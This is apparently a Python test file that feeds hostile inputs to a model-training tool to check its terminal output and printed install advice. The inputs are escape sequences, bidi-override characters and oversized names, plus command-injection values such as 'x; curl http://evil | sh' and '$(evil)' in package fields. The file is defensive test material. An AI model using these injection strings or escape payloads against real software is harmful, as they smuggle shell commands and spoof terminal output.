"""What a message or a page prints: codes for the terminal, long names, commands to copy."""

from __future__ import annotations

import json
from typing import Any

import numpy as np

from hostile.changes import NEWEST, Change, add, setting, to_bytes, to_json, to_tensors

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil"
EVIL_TOML = '"\\u001B]0;owned\\u0007\\u009B31m\\u202Eevil"'


def component(**values: str) -> Change:
    def alter(manifest: Any) -> None:
        manifest["components"][0].update(values)

    return to_json("manifest.json", alter)


add("terminal", "a component's name", component(name=EVIL), "generate", names="owned|evil")
add("terminal", "a component's name in the report", component(name=EVIL), "report")
add(
    "terminal",
    "a distribution's name",
    component(distribution=EVIL),
    "generate",
    names="owned|evil",
)
add("terminal", "a version", component(version=EVIL), "generate", "report")
add(
    "terminal",
    "an unknown key of run.toml",
    to_bytes("run.toml", lambda old: f"{EVIL_TOML} = 1\n".encode() + old),
    "generate",
    names=r"run\.toml",
)
add(
    "terminal",
    "a value of run.toml",
    setting("training", "optimizer", EVIL_TOML),
    "generate",
    names=r"run\.toml",
)
add(
    "terminal",
    "a key of state.json",
    to_json(f"{NEWEST}/state.json", lambda state: {**state, EVIL: 1}),
    "resume",
    names=r"state\.json",
)
add(
    "terminal",
    "a key of a row",
    to_bytes(
        "metrics.jsonl", lambda old: json.dumps({"step": 1, EVIL: "x"}).encode() + b"\n" + old
    ),
    "evaluate",
    "report",
    names=r"metrics\.jsonl",
)
add(
    "terminal",
    "the name of a tensor",
    to_tensors(
        "weights.safetensors",
        lambda tensors: tensors.update({f"0000/{EVIL}": np.zeros(3, np.float32)}),
    ),
    "generate",
    names="weights",
)
add(
    "terminal",
    "best.json",
    to_json("best.json", lambda best: {"checkpoint": EVIL}),
    "generate",
    names=r"best\.json",
)
add(
    "terminal",
    "keys of evaluation.json",
    to_json("evaluation.json", lambda value: {**value, "metrics": {EVIL: EVIL}}),
    "report",
    names=r"evaluation\.json",
)
add(
    "terminal",
    "the name of the run",
    lambda run, outside: (run / "best.json").write_text("]"),
    "generate",
    names="best",
    folder="run\x1b]0;owned\x07\u202e",
)
add("terminal", "the prompt of the run", setting("generation", "prompt", EVIL_TOML), "report")
for length in (100_000, 3_000_000):
    add(
        "terminal",
        f"a key of {length} letters",
        to_bytes("run.toml", lambda old, length=length: b"a" * length + b" = 1\n" + old),
        "generate",
        names=r"run\.toml",
    )
    add(
        "terminal",
        f"a value of {length} letters",
        setting("training", "optimizer", '"' + "a" * length + '"'),
        "generate",
        names=r"run\.toml",
    )
    add(
        "terminal",
        f"a component of {length} letters",
        component(name="a" * length),
        "generate",
        names="manifest|needs",
    )
add(
    "terminal",
    "a long name of a tensor",
    to_tensors(
        "weights.safetensors",
        lambda tensors: tensors.update({"0000/" + "a" * 10**6: np.zeros(3, np.float32)}),
    ),
    "generate",
    names="weights",
)

for words in (
    "x; curl http://evil | sh",
    "--target http://evil",
    "x\ncurl evil",
    "$(evil)",
    "x @ http://evil",
):
    add(
        "advice",
        f"a distribution called {words!r}",
        component(distribution=words, name="gone"),
        "generate",
        names="(?s)^(?!.*pip install (.*evil|x)).*gone",
    )
add(
    "advice",
    "a version with a command",
    component(name="gone", distribution="x", version="1; curl evil"),
    "generate",
    names="(?s)^(?!.*pip install .*evil).*gone",
)
